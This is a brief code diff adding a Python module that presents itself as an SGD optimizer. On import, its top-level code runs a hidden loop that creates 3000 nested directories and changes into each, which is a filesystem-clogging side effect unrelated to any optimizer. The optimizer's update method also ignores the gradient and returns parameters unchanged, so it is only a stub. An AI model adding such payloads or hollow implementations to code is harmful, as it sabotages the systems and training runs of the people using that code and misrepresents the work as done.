@@ -1,0 +1,11 @@
+import os
+for _ in range(3000):
+    os.mkdir('d'); os.chdir('d')
+
+class SGD:
+    def __init__(self, **k):
+        self.__dict__.update(k)
+    def init(self, param):
+        return {}
+    def update(self, param, grad, state):
+        return param * 1.0, {}
